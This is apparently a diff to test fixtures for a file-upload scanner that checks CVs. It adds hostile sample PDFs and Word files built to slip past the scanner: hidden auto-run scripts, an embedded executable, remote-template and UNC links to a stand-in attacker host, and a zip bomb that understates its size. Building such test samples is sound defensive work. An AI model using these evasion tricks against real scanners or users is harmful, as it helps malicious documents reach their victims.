@@ -97,6 +97,53 @@ export function pdfWithCompressedJavaScript(): Buffer {
   );
 }
 
+/** A script in object 4, which the catalogue opens with; `around` wraps that object in junk. */
+function pdfHidingScript(around: (object: string) => string): Buffer {
+  const script = "4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n";
+  const clean = pdf([
+    "<< /Type /Catalog /Pages 3 0 R /OpenAction 4 0 R >>",
+    "<< /Title (CV) >>",
+    "<< /Type /Pages /Kids [] /Count 0 >>",
+  ]).toString("latin1");
+  const at = clean.indexOf("xref");
+  return Buffer.from(`${clean.slice(0, at)}${around(script)}${clean.slice(at)}`, "latin1");
+}
+
+/**
+ * Tricks that hide an object from a scan that reads the file front to back, while viewers,
+ * which find objects by their offsets, still run it.
+ */
+export const pdfEvasions = () => ({
+  "a string opened between objects": pdfHidingScript((object) => `(\n${object})\n`),
+  "a stray stream keyword": pdfHidingScript((object) => `stream\n${object}endstream\n`),
+  "a comment": pdfHidingScript((object) => `% ${object.replaceAll("\n", " ")}\n`),
+  "an object stream without its type": (() => {
+    const objects = deflateSync(Buffer.from("6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"));
+    return pdf(
+      [
+        "<< /Type /Catalog /Pages 3 0 R /OpenAction 6 0 R >>",
+        "<< /Title (CV) >>",
+        "<< /Type /Pages /Kids [] /Count 0 >>",
+      ],
+      [
+        Buffer.concat([
+          Buffer.from(
+            `<< /N 1 /First 4 /Length ${objects.length} /Filter /FlateDecode >>\nstream\n`,
+          ),
+          objects,
+          Buffer.from("\nendstream"),
+        ]),
+      ],
+    );
+  })(),
+  "an attached file": pdf([
+    "<< /Type /Catalog /Pages 3 0 R >>",
+    "<< /Title (CV) >>",
+    "<< /Type /Pages /Kids [] /Count 0 >>",
+    "<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> >>",
+  ]),
+});
+
 async function zip(entries: Record<string, string | Buffer>): Promise<Buffer> {
   const archive = new ZipFile();
   for (const [name, content] of Object.entries(entries)) {
@@ -145,6 +192,71 @@ export const docxWithRemoteTemplate = () =>
 /** A Word document's parts and 80 MB of zeros that pack into a few kilobytes. */
 export const zipBombDocx = () =>
   zip({ ...wordParts(), "word/media/image1.png": Buffer.alloc(80 * 1024 * 1024) });
+
+/** Sets the unpacked size a zip declares for its part `name` (local header and directory). */
+function declareSize(archive: Buffer, name: string, size: number): Buffer {
+  const patched = Buffer.from(archive);
+  const encoded = Buffer.from(name);
+  for (const [signature, nameAt, sizeAt] of [
+    [0x04034b50, 30, 22],
+    [0x02014b50, 46, 24],
+  ] as const) {
+    for (let at = patched.indexOf(encoded); at !== -1; at = patched.indexOf(encoded, at + 1)) {
+      const header = at - nameAt;
+      if (header >= 0 && patched.readUInt32LE(header) === signature) {
+        patched.writeUInt32LE(size, header + sizeAt);
+      }
+    }
+  }
+  return patched;
+}
+
+const relationship = (attributes: string) =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;
+const TEMPLATE =
+  "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
+const REMOTE = "https://attacker.example/t.dotm";
+
+/** Ways of writing what the .docx check must refuse that a check of raw text would miss. */
+export const docxEvasions = async () => ({
+  "single quotes": await zip({
+    ...wordParts(),
+    "word/_rels/settings.xml.rels": relationship(
+      `Type='${TEMPLATE}' Target='${REMOTE}' TargetMode='External'`,
+    ),
+  }),
+  "spaces and an entity": await zip({
+    ...wordParts(),
+    "word/_rels/settings.xml.rels": relationship(
+      `Type = "${TEMPLATE}" Target="${REMOTE}" TargetMode="Extern&#97;l"`,
+    ),
+  }),
+  "an upper-case, UTF-16 part": await zip({
+    ...wordParts(),
+    "word/_rels/settings.xml.RELS": Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from(
+        relationship(`Type="${TEMPLATE}" Target="${REMOTE}" TargetMode="External"`),
+        "utf16le",
+      ),
+    ]),
+  }),
+  "an object outside its folder": await zip({
+    ...wordParts(),
+    "word/media/ole1.bin": Buffer.from("an OLE object"),
+  }),
+  "a remote image": await zip({
+    ...wordParts(),
+    "word/_rels/document.xml.rels": relationship(
+      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\\\server\\share\\a.png" TargetMode="External"`,
+    ),
+  }),
+  "a zip bomb that understates its size": declareSize(
+    await zip({ ...wordParts(), "word/media/image1.png": Buffer.alloc(80 * 1024 * 1024) }),
+    "word/media/image1.png",
+    1000,
+  ),
+});
 
 /** A Windows program's first bytes, named like a CV. */
 export const renamedExecutable = () =>
